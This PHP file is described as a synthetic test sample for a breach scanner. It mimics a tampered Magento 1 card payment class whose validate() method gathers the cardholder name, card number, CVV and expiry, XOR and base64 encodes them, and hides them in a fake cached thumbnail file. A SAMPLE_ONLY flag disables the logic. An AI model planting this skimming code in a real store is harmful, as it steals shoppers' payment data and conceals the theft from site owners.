<?php
/**
 * synthetic test sample for breachscan: altered Magento 1 payment model shape
 * (app/code/core/Mage/Payment/Model/Method/Cc.php) - validate() copies the card number, CVV
 * and expiry, XOR/base64-encodes them and appends them to a file named like a cached product
 * image. Disabled: SAMPLE_ONLY returns before anything runs; no real card data.
 */
class Mage_Payment_Model_Method_Cc extends Mage_Payment_Model_Method_Abstract
{
    const SAMPLE_ONLY = true;

    public function validate()
    {
        parent::validate();
        if (self::SAMPLE_ONLY) {
            return $this;
        }
        $info = $this->getInfoInstance();
        $row = implode('|', array($info->getCcOwner(), $info->getCcNumber(), $info->getCcCid(),
            $info->getCcExpMonth() . '/' . $info->getCcExpYear()));
        $key = 'k3y';
        $out = '';
        for ($i = 0; $i < strlen($row); $i++) {
            $out .= $row[$i] ^ $key[$i % strlen($key)];
        }
        file_put_contents(Mage::getBaseDir('media') . '/catalog/product/cache/1/small_image/9f/.thumb.jpg',
            base64_encode($out) . "\n", FILE_APPEND);
        return $this;
    }
}
